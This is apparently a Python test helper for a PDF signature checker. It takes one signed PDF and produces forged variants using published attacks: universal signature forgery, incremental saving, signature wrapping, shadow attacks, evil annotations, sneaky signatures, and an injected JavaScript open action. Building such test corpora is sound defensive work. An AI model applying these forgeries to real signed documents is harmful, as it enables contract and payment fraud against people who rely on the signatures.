"""Attacks on signed PDF that were published, made here from a file that was issued.

What is signed, and shows or means something else: universal signature forgery (USF), incremental
saving (ISA) and signature wrapping (SWA) of Mladenov, Mainka, Meyer zu Selhausen, Grothe, Schwenk:
*1 Trillion Dollar Refund*, CCS 2019; shadow attacks of Mainka, Mladenov, Rohlmann, NDSS 2021; evil
annotations (EAA) and sneaky signatures (SSA) on certified documents of Rohlmann, Mladenov, Mainka,
Schwenk: *Breaking the Specification*, S&P 2021.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf
from pyhanko.pdf_utils.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    IndirectObject,
    NumberObject,
    PdfObject,
    StreamObject,
    pdf_name,
    pdf_string,
)
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter as Update

_RANGE = re.compile(rb"/ByteRange\[[0-9 ]+\]")


def saved(pdf: bytes, change: Callable[[Pdf], object] = id, **how: object) -> bytes:
    """``pdf`` opened, changed, and written anew."""
    out = BytesIO()
    with pikepdf.open(BytesIO(pdf)) as document:
        change(document)
        document.save(out, **how)  # type: ignore[arg-type]
    return out.getvalue()


def updated(pdf: bytes, change: Callable[[Update], object]) -> bytes:
    """``pdf`` with a well-formed update after it."""
    writer, out = Update(BytesIO(pdf)), BytesIO()
    change(writer)
    writer.write(out)
    return out.getvalue()


def _page(writer: Update) -> DictionaryObject:
    found: DictionaryObject = writer.root["/Pages"]["/Kids"][0]
    return found


def _words(**said: PdfObject) -> DictionaryObject:
    return DictionaryObject({pdf_name(f"/{key}"): value for key, value in said.items()})


def _box(*numbers: float) -> ArrayObject:
    return ArrayObject([FloatObject(each) for each in numbers])


def _drawing(writer: Update, drawing: bytes) -> IndirectObject:
    """A form that covers the page and says something else."""
    covered = b"1 g 0 0 842 595 re f 0 g BT /F 40 Tf 90 300 Td (%b) Tj ET" % drawing
    font = _words(Type=pdf_name("/Font"), Subtype=pdf_name("/Type1"), BaseFont=pdf_name("/Courier"))
    about = _words(
        Type=pdf_name("/XObject"), Subtype=pdf_name("/Form"), BBox=_box(0, 0, 842, 595),
        Resources=_words(Font=_words(F=font)),
    )  # fmt: skip
    return writer.add_object(StreamObject(dict_data=about, stream_data=covered))


def _annotated(kind: str, **more: PdfObject) -> Callable[[Update], None]:
    """Evil annotation: one whose appearance covers the page."""

    def add(writer: Update) -> None:
        note = _words(
            Type=pdf_name("/Annot"), Subtype=pdf_name(kind), Rect=_box(0, 0, 842, 595),
            F=NumberObject(4), AP=_words(N=_drawing(writer, b"FORGED")), **more,
        )  # fmt: skip
        sheet = _page(writer)
        notes = ArrayObject([*sheet["/Annots"], writer.add_object(note)])
        sheet[pdf_name("/Annots")] = notes
        writer.update_container(sheet)

    return add


def _sneaky(writer: Update) -> None:
    """Sneaky signature: a field to be signed, allowed by many, whose appearance covers the page."""
    _annotated("/Widget", FT=pdf_name("/Sig"), T=pdf_string("second"))(writer)
    added = _page(writer)["/Annots"].raw_get(-1)
    form = writer.root["/AcroForm"]
    form[pdf_name("/Fields")] = ArrayObject([*form["/Fields"], added])
    writer.update_container(form)


def _redrawn(writer: Update) -> None:
    """Shadow, replace: other content under the same page."""
    sheet = _page(writer)
    sheet[pdf_name("/Contents")] = writer.add_object(
        StreamObject(stream_data=b"0 g 90 90 400 400 re f")
    )
    writer.update_container(sheet)


def _other_pages(writer: Update) -> None:
    """Shadow, hide and replace: the catalogue turns to other pages."""
    sheet = _words(
        Type=pdf_name("/Page"), MediaBox=_box(0, 0, 842, 595), Contents=_drawing(writer, b"FORGED")
    )
    pages = _words(
        Type=pdf_name("/Pages"), Count=NumberObject(1), Kids=ArrayObject([writer.add_object(sheet)])
    )
    writer.root[pdf_name("/Pages")] = writer.add_object(pages)
    writer.update_root()


def _hidden(writer: Update) -> None:
    """Shadow, hide: what was visible when it was signed is taken away."""
    sheet = _page(writer)
    sheet[pdf_name("/Resources")] = DictionaryObject()
    writer.update_container(sheet)


def _unlocked(writer: Update) -> None:
    """The certification is taken off, then the page is changed."""
    del writer.root["/Perms"]
    writer.update_root()
    _redrawn(writer)


def _attached(writer: Update) -> None:
    """Another credential.json."""
    del writer.root["/AF"]
    writer.update_root()


def _layered(writer: Update) -> None:
    """Optional content that was not there."""
    group = writer.add_object(_words(Type=pdf_name("/OCG"), Name=pdf_string("x")))
    groups = _words(OCGs=ArrayObject([group]), D=_words(OFF=ArrayObject([group])))
    writer.root[pdf_name("/OCProperties")] = groups
    writer.update_root()


def _scripted(writer: Update) -> None:
    script = _words(S=pdf_name("/JavaScript"), JS=pdf_string("this.pageNum = 0"))
    writer.root[pdf_name("/OpenAction")] = script
    writer.update_root()


UPDATES: dict[str, Callable[[Update], object]] = {
    "ISA: other content": _redrawn,
    "ISA: nothing but an object": lambda writer: writer.add_object(pdf_string("x")),
    "shadow: hidden": _hidden,
    "shadow: other pages": _other_pages,
    "unlocked": _unlocked,
    "no credential": _attached,
    "optional content": _layered,
    "a script": _scripted,
    "EAA: free text": _annotated("/FreeText"),
    "EAA: stamp": _annotated("/Stamp"),
    "EAA: redaction": _annotated("/Redact"),
    "EAA: widget": _annotated("/Widget"),
    "SSA: a second signature field": _sneaky,
}
RANGES = {
    "USF: no range": b"",
    "USF: null": b"/ByteRange null",
    "USF: nothing in it": b"/ByteRange[]",
    "USF: zeros": b"/ByteRange[0 0 0 0]",
    "USF: below zero": b"/ByteRange[0 -1 -2 -1]",
    "USF: endless": b"/ByteRange[0 99999999999 99999999999 9]",
    "USF: one number": b"/ByteRange[0]",
    "USF: words": b"/ByteRange[/a(b)null<<>>]",
}
CONTENTS = {
    "USF: no contents": b"",
    "USF: contents null": b"/Contents null",
    "USF: contents empty": b"/Contents<>",
    "USF: contents zero": b"/Contents<00>",
}


def _objects_after(pdf: bytes) -> dict[str, bytes]:
    """ISA without rules: what is merely appended, which some readers repair into the document."""
    start = pdf.rindex(b"startxref")
    new = b"16 0 obj\n<</Length 24>>\nstream\n0 g 0 0 900 900 re f     \nendstream\nendobj\n"
    old = pdf[start:]
    return {
        "ISA: objects after the end": pdf + new,
        "ISA: objects, and the old end again": pdf + new + old,
        "ISA: a trailer without a table": pdf + new + b"trailer\n<</Root 1 0 R>>\n" + old,
        "ISA: a table that ends early": pdf + new + b"xref\n0 1\n" + old,
        "ISA: a false start": pdf + new + b"startxref\n%d\n%%%%EOF\n" % (len(pdf) + 1),
        "ISA: the end far away": pdf + b" " * 4000 + new + old,
    }


def _wrapped(pdf: bytes) -> dict[str, bytes]:
    """SWA: the signed second part moved, something else in between, the range told otherwise."""
    (span,) = _RANGE.finditer(pdf)
    _, before, after, rest = map(int, re.findall(rb"\d+", span[0]))
    head, gap, tail = pdf[:before], pdf[before:after], pdf[after:]
    evil = b">> endobj\n16 0 obj\n<</Length 20>>\nstream\n0 g 0 0 900 900 re f\nendstream\nendobj\n"
    moved = b"/ByteRange[0 %d %d %d]" % (before, after + 2 * len(evil) + 60, rest)
    bare = moved.ljust(60) + evil.ljust(2 * len(evil))
    return {
        "SWA: the second part moved": head + gap + bare + tail,
        "SWA: padded in the gap": head + gap[:-1] + b"0" * 500 + b">" + tail,
        "SWA: two ranges": head + gap + b"/ByteRange[0 1 2 3]" + tail,
        "SWA: two contents": head + gap + b"/Contents" + gap + tail,
        "SWA: the range a reference": pdf.replace(
            span[0], b"/ByteRange 19 0 R".ljust(len(span[0]))
        ),
        "SWA: the gap a text": head + b"(" + bytes.fromhex(gap[1:-1].decode())[:99] + b")" + tail,
    }


def forged(pdf: bytes) -> dict[str, bytes]:
    """What is signed, and shows or means something else."""
    contents = re.compile(rb"/Contents<[0-9a-f]+>")
    (span,) = _RANGE.finditer(pdf)
    return {
        **{name: updated(pdf, change) for name, change in UPDATES.items()},
        **{name: pdf.replace(span[0], said.ljust(len(span[0]))) for name, said in RANGES.items()},
        **{name: pdf.replace(span[0], said) for name, said in _shorter(RANGES).items()},
        **{name: contents.sub(said, pdf) for name, said in CONTENTS.items()},
        **_objects_after(pdf),
        **_wrapped(pdf),
        "saved anew": saved(pdf),
        "linearised": saved(pdf, linearize=True),
        "a page more": saved(pdf, lambda document: document.add_blank_page()),
        "annotated and saved": saved(pdf, _noted),
    }


def _shorter(ranges: dict[str, bytes]) -> dict[str, bytes]:
    return {f"{name}, and shorter": said for name, said in ranges.items()}


def _noted(document: Pdf) -> None:
    note = Dictionary(Type=Name.Annot, Subtype=Name.Square, Rect=Array([0, 0, 800, 500]))
    document.pages[0].obj.Annots.append(document.make_indirect(note))
